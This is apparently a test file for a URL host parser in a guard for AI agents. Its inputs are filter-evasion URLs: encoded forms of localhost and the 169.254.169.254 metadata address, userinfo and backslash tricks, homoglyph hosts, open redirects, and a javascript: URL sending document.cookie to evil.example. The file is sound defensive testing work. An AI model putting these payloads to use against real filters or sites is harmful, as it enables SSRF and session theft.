"""Hosts: the browser's reading of a URL, one spelling for each host, look-alikes apart."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentsfence_core.classification.targets.hosts import (
    canonical_host,
    host_matches,
    hosts_in,
    read_location,
    read_url,
)

HOSTS = [
    ("https://example.com/a", "example.com"),
    ("https://EXAMPLE.com./a", "example.com"),
    ("https://evil.example\\@docs.example.com/x", "evil.example"),
    ("https://docs.example.com@evil.example/x", "evil.example"),
    ("https://a@b@evil.example/", "evil.example"),
    ("http://user:pass@h.example#@evil.example", "h.example"),
    ("https:\\\\evil.example\\x", "evil.example"),
    ("https:evil.example", "evil.example"),
    ("https:////evil.example", "evil.example"),
    ("ht\ntps://ev\til.example/x", "evil.example"),
    (" \x00https://evil.example", "evil.example"),
    ("//evil.example/x", "evil.example"),
    ("http://127.0.0.1:80/", "127.0.0.1"),
    ("http://127\u30020\u30020\u30021/", "127.0.0.1"),
    ("http://0x7f.1/", "127.0.0.1"),
    ("http://0177.0.0.1/", "127.0.0.1"),
    ("http://2130706433/", "127.0.0.1"),
    ("http://\uff11\uff16\uff19.254.169.254/", "169.254.169.254"),
    ("http://[::ffff:169.254.169.254]/", "169.254.169.254"),
    ("http://[::FFFF:a9fe:a9fe]:8080/", "169.254.169.254"),
    ("http://[0:0:0:0:0:0:0:1%25eth0]/", "::1"),
    ("https://ex%61mple.com/", "example.com"),
    ("https://docs\u00ad.example.com/", "docs.example.com"),
    ("https://b\u00fccher.example/", "xn--bcher-kva.example"),
    ("https://xn--BCHER-kva.example/", "xn--bcher-kva.example"),
    ("https://\u2615.example/", "xn--53h.example"),
    ("https://example.com.collector.example/x", "example.com.collector.example"),
    ("ftp://files.example/x", "files.example"),
    ("gopher://evil.example:70/_x", "evil.example"),
]


@pytest.mark.parametrize(("url", "host"), HOSTS)
def test_the_host_is_the_one_that_a_browser_contacts(url: str, host: str) -> None:
    reading = read_url(url)
    assert reading is not None
    assert reading.host == host


def test_a_look_alike_is_another_host() -> None:
    assert canonical_host("docs.ex\u0430mple.com") == "docs.xn--exmple-4nf.com"
    assert canonical_host("docs.example.com") == "docs.example.com"


def test_parts_of_a_url_are_apart() -> None:
    reading = read_url("https://u:p@h.example:8443/a/b?x=1#top")
    assert reading is not None
    assert (reading.scheme, reading.host, reading.port) == ("https", "h.example", 8443)
    assert (reading.path, reading.query, reading.fragment, reading.userinfo) == ("/a/b", "x=1", "top", "u:p")


INNER = [
    ("https://r.example/https://evil.example/x", ("evil.example",)),
    ("https://r.example/?u=https%3A%2F%2Fevil.example%2Fx", ("evil.example",)),
    ("https://r.example/?u=https%253A%252F%252Fevil.example", ("evil.example",)),
    ("https://r.example/?next=//evil.example/x", ("evil.example",)),
    ("https://r.example/?url=evil.example/x", ("evil.example",)),
    ("https://r.example/?redirect_uri=https://a.example&x=https://b.example", ("a.example", "b.example")),
    ("https://r.example/?q=how+to+cook", ()),
    ("https://r.example/a:b/c=d", ()),
]


@pytest.mark.parametrize(("url", "inner"), INNER)
def test_a_url_inside_a_url_is_a_host_too(url: str, inner: tuple[str, ...]) -> None:
    reading = read_url(url)
    assert reading is not None
    assert reading.inner == inner


@pytest.mark.parametrize(
    "text", ["example.com", "localhost:8000", "report.txt", "C:/x", "hello: world", "", "a@b.example", "urn:x"]
)
def test_what_is_no_url_is_not_read_as_one(text: str) -> None:
    assert read_url(text) is None


def test_urls_without_a_host_keep_what_they_carry() -> None:
    script = read_url("javascript:fetch('https://evil.example/?c='+document.cookie)")
    assert script is not None
    assert (script.scheme, script.host, script.inner) == ("javascript", "", ("evil.example",))
    assert read_url("view-source:https://evil.example/x").inner == ("evil.example",)  # type: ignore[union-attr]


def test_locations_are_read_as_clients_read_them() -> None:
    assert read_location("example.com:80/x").host == "example.com"  # type: ignore[union-attr]
    assert read_location("git@github.com:a/b.git").host == "github.com"  # type: ignore[union-attr]
    assert read_location("localhost").host == "localhost"  # type: ignore[union-attr]
    assert read_location("./x") is None
    assert read_location("") is None


def test_every_url_of_a_text_is_found() -> None:
    text = 'See (https://a.example/x?u=http://b.example), www.c.example. and "https:\\\\d.example" <https://[::1]>'
    assert hosts_in(text) == ("a.example", "b.example", "www.c.example", "d.example", "::1")
    assert hosts_in("no address: at all, mail bob@www.example") == ()


MATCHES = [
    ("example.com", "example.com", True),
    ("www.example.com", "example.com", True),
    ("example.com", "www.example.com", False),
    ("a.example.com", "example.com", False),
    ("notexample.com", "example.com", False),
    ("a.example.com", "*.example.com", True),
    ("example.com", "*.example.com", False),
    ("evilexample.com", "*.example.com", False),
]


@pytest.mark.parametrize(("host", "allowed", "matches"), MATCHES)
def test_only_the_host_itself_or_its_www_matches(host: str, allowed: str, matches: bool) -> None:
    assert host_matches(host, allowed) is matches


_URLS = st.text(alphabet="htps:/\\@[]%.?#&=0x7faé\u3002\u0430\u00ad -\n", max_size=50)


@given(st.one_of(_URLS, st.text(max_size=50)))
@settings(max_examples=400, deadline=None)
def test_reading_urls_never_raises(text: str) -> None:
    for url in (text, f"https://{text}", f"https://a.example/?u={text}"):
        read_url(url)
        read_location(url)
        hosts_in(url)


@given(st.one_of(_URLS, st.text(max_size=40)))
@settings(max_examples=400, deadline=None)
def test_canonicalisation_idempotent(text: str) -> None:
    once = canonical_host(text)
    if once is not None:
        assert canonical_host(once) in {once, None}
